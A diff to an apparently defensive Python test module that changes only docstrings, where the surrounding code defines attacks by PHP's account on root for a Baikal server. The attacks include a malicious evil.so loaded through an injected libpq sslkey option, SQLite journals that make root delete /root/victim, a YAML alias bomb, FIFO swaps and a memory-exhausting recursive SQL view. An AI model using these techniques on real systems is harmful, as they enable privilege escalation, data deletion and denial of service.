@@ -1,4 +1,4 @@
-"""Programs that PHP's account may run or write to attack root: each is Python, C or a file's content."""
+"""Attacks on root that PHP's account can run or write: Python programs, a C library, contents of files."""
 
 from __future__ import annotations
 
@@ -17,11 +17,11 @@ YAML: Final = f"{DATA}/config/baikal.yaml"
 DATABASE: Final = f"{DATA}/Specific/db/db.sqlite"
 LIBRARY: Final = f"{DATA}/Specific/evil.so"
 LOADED: Final = f"{DATA}/Specific/loaded"
-"""The library writes here which account has loaded it."""
+"""The library records here which account has loaded it."""
 PWNED: Final = "/root/pwned"
 """The library writes this file if it can become root."""
 VICTIM: Final = "/root/victim"
-"""A file of root's that a journal names, to have it deleted."""
+"""A file of root that a journal names, so that it would be deleted."""
 PORT: Final = 5499
 STOP: Final = "/tmp/stop"  # noqa: S108 - on the machine under test
 
@@ -109,7 +109,7 @@ while not os.path.exists("{STOP}"):
     if not os.path.exists(database + "-journal"):
         appear()
 """
-"""Has a journal beside a database that names :data:`VICTIM` as its super-journal: ``once``, or again whenever it is gone."""
+"""Writes a journal for a database that names :data:`VICTIM` as super-journal: ``once``, or after each removal."""
 _BOMB: Final = "more:\n  a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(
     f"  a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9)
 )
@@ -119,7 +119,7 @@ QUEUED: Final = "/var/spool/nullmailer/queue/1700000000.1"
 
 
 def fifo(path: str) -> str:
-    """Return the program that puts a FIFO in the place of a file."""
+    """Return a program that replaces a file by a FIFO."""
     return _REPLACED.format(path=path) + f"os.mkfifo({path!r})\n"
 
 
@@ -141,18 +141,18 @@ connection.execute("CREATE VIEW users AS WITH RECURSIVE n(i) AS (SELECT 1 UNION 
     "SELECT i AS id, 'x' || i AS username, 'x' || i AS digesta1 FROM n")
 """,  # noqa: S608 - hostile it is meant to be
 }
-"""What PHP's account can write that would hold up or fill a program that reads it without care: a program for each."""
+"""Programs by name; each writes data that would block, or exhaust the memory of, a careless reader."""
 
 
 def section(folder: str) -> dict[str, str]:
-    """Return what names, in the section ``database`` of a baikal.yaml, the library in ``folder`` as a program for libpq."""
+    """Return a section ``database`` for baikal.yaml that makes libpq load the library in ``folder``."""
     options = f"sslmode=require;sslcert={folder}/c.pem;sslkey={folder}/evil.so:x"
     names = dict.fromkeys(("pgsql_dbname", "pgsql_username", "pgsql_password"), "x")
     return {"backend": "pgsql", "pgsql_host": f"127.0.0.1;port={PORT};{options}", **names}
 
 
 def self_signed(folder: str) -> str:
-    """Return the command that makes the certificate that libpq wants besides a key."""
+    """Return the command that creates the certificate that libpq needs besides a key."""
     return (
         "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=x -days 2"
         f" -keyout /dev/null -out {folder}/c.pem 2>/dev/null"
